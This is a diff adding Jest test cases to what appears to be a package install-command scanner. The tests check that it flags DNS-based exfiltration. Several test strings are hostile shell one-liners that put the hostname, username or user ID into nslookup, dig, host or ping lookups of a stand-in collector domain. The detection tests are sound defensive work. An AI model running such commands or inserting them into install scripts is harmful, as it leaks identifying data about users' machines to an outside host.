@@ -135,3 +135,25 @@ describe("an install file in an obfuscator's other shapes", () => {
     expect(js("const { spawnSync } = require('child_process');\nspawnSync(process.execPath, ['build.js'], { stdio: 'inherit' });\n").suspicious).toEqual([]);
   });
 });
+
+describe('host data in a name looked up in DNS (the command itself is the exfiltration)', () => {
+  test.each([
+    ['nslookup `hostname`.collector.example'],
+    ['nslookup $(whoami).collector.example.com'],
+    ['ping -c 1 $(hostname).collector.example'],
+    ['dig +short $USER.t.collector.example'],
+    ['host $(id -u).collector.example'],
+  ])('%s', (command) => {
+    expect(installCommandFindings([command]).dangerous).toEqual(['exfiltration']);
+  });
+
+  test.each([
+    // Near cases that stay clean: a lookup of a fixed name, the host name used locally, a lookup of the machine itself.
+    ['nslookup registry.example.org'],
+    ['echo $(hostname) && ping -c1 localhost'],
+    ['HOST=$(hostname); node build.js'],
+    ['ping -c 1 $(hostname)'],
+  ])('clean: %s', (command) => {
+    expect(installCommandFindings([command]).dangerous).toEqual([]);
+  });
+});
